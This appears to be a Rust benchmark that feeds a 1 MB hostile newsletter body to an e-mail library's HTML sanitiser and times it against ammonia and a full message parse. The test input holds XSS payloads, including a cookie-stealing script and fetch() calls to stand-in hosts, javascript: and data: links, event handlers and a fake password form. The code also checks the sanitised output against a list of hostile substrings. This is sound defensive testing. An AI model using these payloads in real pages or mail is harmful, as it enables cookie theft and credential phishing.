//! Section 2 of the e-mail bench: the library's HTML sanitiser
//! (`atende::channels::email::parse::sanitize_html`, the one the IMAP sync
//! runs on every HTML body) on a hostile 1 MB body as newsletters and Outlook
//! send them: nested layout tables, inline styles (allowed properties and
//! ones that must go), Office conditional comments and XML, style sheets,
//! scripts, event handlers, `javascript:` links, frames, forms, SVG, remote
//! and `data:` images, entities and long paragraphs. Median and p95 over a
//! bounded number of runs (target: under [`TARGET_MS`], judged on each);
//! ammonia's default cleaner on the same body for comparison; then the whole
//! parse of an e-mail carrying that body (quoted-printable, with a text
//! part), for comparison.

use std::time::{Duration, Instant};

use atende::channels::email::parse;

use crate::common::{R, Summary, ms, pct, verdict};

/// The body's size.
pub const SIZE: usize = 1 << 20;
/// Runs measured (after [`WARMUP`]), and the longest the runs may take.
const RUNS: usize = 60;
const WARMUP: usize = 3;
const LIMIT: Duration = Duration::from_secs(40);
/// Target.
const TARGET_MS: f64 = 20.0;

const HEAD: &str = r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta http-equiv="refresh" content="0;url=https://e.vil/">
<base href="https://e.vil/"><link rel="stylesheet" href="https://cdn.e.vil/track.css">
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<style type="text/css">
body{margin:0;padding:0;-webkit-text-size-adjust:100%} table{border-collapse:collapse;mso-table-lspace:0pt}
.hdr{background:url(https://t.e.vil/bg.png) no-repeat;behavior:url(#default#VML)} .x{width:expression(alert(1))}
@import url("https://t.e.vil/more.css"); @media only screen and (max-width:600px){.col{width:100%!important}}
</style>
<script type="text/javascript">window.onload=function(){new Image().src='https://t.e.vil/c?'+document.cookie;}</script>
</head>
<body style="margin:0;padding:0;background-color:#eeeeee" onload="track()" bgcolor="#eeeeee">
<center><table width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:#eeeeee;position:absolute;top:0">
"##;

const FOOT: &str = r##"</table></center>
<img src="https://t.e.vil/open.gif?id=9f3a" width="1" height="1" style="display:none">
<iframe src="https://e.vil/frame" width="0" height="0"></iframe>
<object data="https://e.vil/x.swf"></object><embed src="https://e.vil/y.swf">
</body></html>
"##;

/// One repeated block: a newsletter row with everything a sanitiser must
/// handle, numbered `n`.
fn block(n: usize) -> String {
    let text = "Prezado cliente, informamos que o seu pedido foi faturado e será entregue pela transportadora \
        em até cinco dias úteis. Caso não reconheça esta compra, entre em contato com a nossa central de \
        atendimento &mdash; o número do protocolo está abaixo &amp; também no aplicativo. Atenção: não \
        responda a este e-mail com dados do cartão; nunca pedimos senha por telefone nem por mensagem.&nbsp;";
    format!(
        r##"<tr><td class="col" align="center" valign="top" style="padding:20px 10px;background-color:#ffffff;background-image:url(https://t.e.vil/row{n}.png)" onclick="go({n})">
<!--[if mso]><table width="600"><tr><td><![endif]-->
<table width="600" cellpadding="0" cellspacing="0" border="0" style="width:600px;max-width:600px;border:1px solid #dddddd;box-shadow:0 0 4px #999">
<tr><td style="padding:10px;font-family:Arial,Helvetica,sans-serif;font-size:14px;line-height:20px;color:#333333;z-index:9999">
<h2 style="color:#0055aa;font-size:18px;margin:0 0 10px 0" onmouseover="steal()">Novidade número {n} — ofertas da semana</h2>
<p style="margin:0 0 10px 0;color:#333;font-size:14px;position:fixed;left:0" align="left">{text}</p>
<p><font face="Verdana" color="#990000" size="2">Protocolo {n:08}: <b>confirmado</b> <i>em análise</i> <u>pendente</u></font></p>
<div style="text-align:center;padding:8px;background:url('javascript:alert(1)')"><a href="https://loja.exemplo.com.br/oferta/{n}?utm_source=email&amp;utm_medium=news" target="_blank" style="color:#ffffff;background-color:#0055aa;padding:8px 16px;text-decoration:none">Ver oferta</a>
<a href="javascript:alert(document.domain)">Descadastrar</a> <a href="vbscript:msgbox(1)">Ajuda</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Termos</a></div>
<table width="100%" border="1" cellpadding="4" cellspacing="0" style="border-collapse:collapse"><tr><td width="50%" style="border:1px solid #ccc">Item {n}</td><td style="border:1px solid #ccc" align="right">R$ {n},90</td></tr>
<tr><td colspan="2" rowspan="1" style="font-size:12px;color:#777">Frete grátis acima de R$ 199,00 para todo o Brasil</td></tr></table>
<img src="https://img.e.vil/produto/{n}.jpg" width="560" height="200" alt="Produto {n}" style="display:block;width:560px;height:auto;border:0" onerror="this.src='https://e.vil/x?{n}'">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width="1" height="1"><img src="cid:logo{n}@empresa">
<img src="//t.e.vil/p{n}.gif"><img src="javascript:alert(1)"><img src=x onerror=alert({n})>
<form action="https://e.vil/login" method="post"><input type="password" name="senha"><button onclick="x()">Entrar</button></form>
<svg onload="alert({n})"><script>alert({n})</script><use href="https://e.vil/s.svg#a"/></svg>
<script>fetch('https://e.vil/'+{n})</script><noscript><img src="https://t.e.vil/ns{n}.gif"></noscript>
<p style="color:red;expression(alert(1));font-weight:bold">{text} {text}</p><span style="color:#006600">Obrigado por comprar conosco! <span>Texto aninhado <b><i>sem fechar
<blockquote type="cite">Em resposta à sua mensagem anterior: {text}</blockquote><hr>
<marquee>promoção</marquee><details open ontoggle="alert(1)"><summary>Mais</summary>{text}</details>
</td></tr></table>
<!--[if mso]></td></tr></table><![endif]-->
</td></tr>
"##
    )
}

/// The hostile body, `SIZE` bytes.
pub fn hostile_html() -> String {
    let mut h = String::with_capacity(SIZE + 8192);
    h.push_str(HEAD);
    for n in 0..100_000 {
        if h.len() + FOOT.len() >= SIZE {
            break;
        }
        h.push_str(&block(n));
    }
    h.push_str(FOOT);
    h
}

fn email_with(html: &str) -> Vec<u8> {
    format!(
        "From: Loja Exemplo <news@loja.exemplo.com.br>\r\nTo: suporte@empresa.com.br\r\nSubject: Ofertas da semana\r\n\
         Message-ID: <news.1@loja.exemplo.com.br>\r\nDate: 1 Dec 2026 10:00:00 -0300\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\
         Content-Transfer-Encoding: 8bit\r\n\r\nOfertas da semana: veja a versão em HTML.\r\n--b1\r\n\
         Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{}--b1--\r\n",
        crate::mail::qp(html)
    )
    .into_bytes()
}

/// Runs `f` `WARMUP` times, then up to `RUNS` times within `LIMIT`; the
/// run times in ms.
fn time_runs(mut f: impl FnMut()) -> Vec<f64> {
    for _ in 0..WARMUP {
        f();
    }
    let start = Instant::now();
    let mut v = Vec::with_capacity(RUNS);
    for _ in 0..RUNS {
        if start.elapsed() > LIMIT {
            break;
        }
        let t = Instant::now();
        f();
        v.push(ms(t.elapsed()));
    }
    v
}

/// Section 2.
pub fn bench(sum: &mut Summary) -> R<()> {
    let html = hostile_html();
    let tags = html.matches('<').count();
    let (out, remote) = parse::sanitize_html(&html);
    let left: Vec<&str> =
        ["<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<form", "position:", "url("]
            .into_iter()
            .filter(|b| out.contains(b))
            .collect();
    println!(
        "mail_sanitize_input bytes={} tags={tags} output_bytes={} remote_images={remote} hostile_left={}",
        html.len(),
        out.len(),
        if left.is_empty() { "none".to_string() } else { left.join(",") }
    );
    if out.is_empty() {
        return Err("sanitize_html returned nothing for the 1 MB body".into());
    }
    if !left.is_empty() {
        return Err(format!("sanitize_html left {}", left.join(", ")));
    }
    let mut v = time_runs(|| {
        std::hint::black_box(parse::sanitize_html(std::hint::black_box(&html)));
    });
    let n = v.len();
    let (p50, p95) = (pct(&mut v, 50.0), pct(&mut v, 95.0));
    let (min, max) = (v.first().copied().unwrap_or(f64::NAN), v.last().copied().unwrap_or(f64::NAN));
    let (ok, ok95) = (p50 < TARGET_MS, p95 < TARGET_MS);
    println!(
        "mail_sanitize_1mb runs={n} median_ms={p50:.2} p95_ms={p95:.2} min_ms={min:.2} max_ms={max:.2} \
         mb_per_s={:.0} target=<{TARGET_MS:.0}ms median {} p95 {} load_avg=[{}]",
        html.len() as f64 / 1048576.0 / (p50 / 1000.0),
        verdict(ok),
        verdict(ok95),
        crate::loadavg()
    );

    // The same body through ammonia's default cleaner (no extra tags, no
    // style filter, no URL hook): how much of the time is the HTML parse and
    // serialisation every ammonia configuration pays.
    let mut a = time_runs(|| {
        std::hint::black_box(ammonia::clean(std::hint::black_box(&html)));
    });
    let (a50, a95) = (pct(&mut a, 50.0), pct(&mut a, 95.0));
    println!(
        "mail_sanitize_1mb_ammonia_default runs={} median_ms={a50:.2} p95_ms={a95:.2} (ammonia::clean, for comparison) \
         load_avg=[{}]",
        a.len(),
        crate::loadavg()
    );

    let raw = email_with(&html);
    let m = parse::parse(&raw);
    if m.html.is_empty() {
        return Err("the e-mail carrying the 1 MB body parsed without HTML".into());
    }
    let mut w = time_runs(|| {
        std::hint::black_box(parse::parse(std::hint::black_box(&raw)));
    });
    let (q50, q95) = (pct(&mut w, 50.0), pct(&mut w, 95.0));
    println!(
        "mail_parse_1mb_email raw_bytes={} runs={} median_ms={q50:.2} p95_ms={q95:.2} (mail-parser decode, text \
         and sanitise) text_chars={} html_bytes={}",
        raw.len(),
        w.len(),
        m.text.chars().count(),
        m.html.len()
    );
    sum.add("mail_sanitize_1mb_ms", format!("median {p50:.2}"), &format!("< {TARGET_MS:.0}"), verdict(ok));
    sum.add(
        "mail_sanitize_1mb_p95_ms",
        format!("{p95:.2} (max {max:.2})"),
        &format!("< {TARGET_MS:.0}"),
        verdict(ok95),
    );
    sum.add("mail_parse_1mb_email_ms", format!("median {q50:.2} p95 {q95:.2}"), "", "");
    Ok(())
}
